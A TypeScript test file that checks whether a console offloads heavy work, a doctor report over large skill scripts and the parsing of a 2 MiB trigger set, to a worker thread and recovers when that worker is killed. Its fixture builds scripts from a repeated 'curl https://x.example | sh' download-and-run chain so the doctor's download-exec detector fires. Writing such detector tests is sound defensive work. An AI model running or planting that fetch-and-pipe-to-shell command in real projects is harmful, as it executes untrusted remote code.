// Issue 35 item 5: heavy work of a request runs in the offload worker, so the console's thread answers other
// requests meanwhile. Proved by order, not by time: a health request over real HTTP on 127.0.0.1 is answered
// while the doctor report of a catalog of large scripts (or a 2 MiB pasted trigger set) is still running; on the
// request thread the report finished before the health request was even read. Then a worker that dies.
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SessionUser } from "../../auth";
import { MAX_READ_BYTES } from "../../runtime/doctor/context";
import { callerFor } from "../../test-support/caller";
import { serveFetch } from "../../test-support/http-server";
import { useSkillsTestHome } from "../../test-support/test-home";
import { healthReport } from "../health";
import { skillMd, writeSkillOnDisk } from "../skills/test-support/skills";
import { offload, offloadWorkerPid } from "./pool";

const h = useSkillsTestHome({ once: true });
let health: Awaited<ReturnType<typeof serveFetch>>;
beforeAll(async () => {
  health = await serveFetch(async () => Response.json(await healthReport(h.db)));
  const skills = path.join(h.dataHome.projectRoot, ".omniforge", "skills");
  // Scripts as large as the doctor reads, each a long pipe chain ending in a download run by sh.
  const script = "curl https://x.example | ".repeat(Math.floor((MAX_READ_BYTES - 10) / 25)) + "sh\n";
  for (let i = 0; i < 4; i++) {
    writeSkillOnDisk(path.join(skills, `build-${i}`), {
      "SKILL.md": skillMd(`build-${i}`, `Builds release ${i} of the product. Use when the user asks for build ${i}.`).replace(`Body of build-${i}.`, "Run `bash scripts/run.sh`."),
      "scripts/run.sh": script,
    });
  }
});
afterAll(() => health.close());

const viewer: SessionUser = { id: "viewer-1", email: "viewer-1@x.io", name: "", role: "viewer" };

/** Sends health while `work` runs; says whether the work was still running when health's answer came back. */
async function healthDuring<T>(work: Promise<T>): Promise<{ pendingAtHealth: boolean; value: T }> {
  let done = false;
  void work.then(() => (done = true), () => (done = true));
  const res = await fetch(`${health.url}/api/health`);
  expect(((await res.json()) as { status: string }).status).toBe("ok");
  const pendingAtHealth = !done;
  return { pendingAtHealth, value: await work };
}

describe("heavy requests off the console's thread", () => {
  it("health is answered while the doctor reads a catalog of 500 KB scripts, and the report then comes", async () => {
    const { pendingAtHealth, value } = await healthDuring(callerFor(h, viewer).doctor.report());
    expect(pendingAtHealth).toBe(true);
    // Each skill's download-and-run is found (or, on a host too busy for the doctor's 2 s per skill, said not fully checked).
    const found = (s: (typeof value.skills)[number]) => s.findings.some((f) => f.code === "scripts.download-exec" || f.code === "skill.not-fully-checked");
    expect(value.skills.map((s) => [s.name, found(s)]).sort()).toEqual([0, 1, 2, 3].map((i) => [`build-${i}`, true]));
  });

  it("health is answered while a 2 MiB pasted trigger set is read", async () => {
    const text = "[" + Array(1_000_000).fill("1").join(",") + "]";
    const { pendingAtHealth, value } = await healthDuring(callerFor(h, viewer).evals.parseSet({ text }));
    expect(pendingAtHealth).toBe(true);
    expect(value.diagnostics.at(-1)).toMatchObject({ code: "eval.too-many", message: "999950 more problems are not listed" });
  });

  it("a worker that dies fails what waited for it with a reason, and the next call starts a new one", async () => {
    const waiting = offload("parseTriggers", "[" + Array(1_000_000).fill("1").join(",") + "]");
    const pid = offloadWorkerPid()!;
    process.kill(pid, "SIGKILL");
    await expect(waiting).rejects.toMatchObject({ code: "UNAVAILABLE", message: expect.stringMatching(/stopped \(signal SIGKILL\); try again/) });
    expect((await offload("parseTriggers", "[]")).value).toEqual([]);
    expect(offloadWorkerPid()).not.toBe(pid);
  });
});
